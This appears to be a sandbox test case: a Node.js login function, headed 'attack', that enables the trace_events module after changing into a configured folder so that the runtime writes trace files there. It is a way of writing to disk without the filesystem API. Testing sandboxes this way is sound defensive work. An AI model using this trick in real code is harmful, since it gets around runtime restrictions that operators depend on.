// attack: let Node write its trace, which it does into the folder that it stands in
// needs: fs
// deadline: 2
// outcome: any
function login(email, password, callback) {
  process.chdir(configuration.folder);
  process.getBuiltinModule('trace_events').createTracing({ categories: ['node', 'v8'] }).enable();
  setTimeout(() => callback(null, { user_id: 'attempted' }), 300);
}
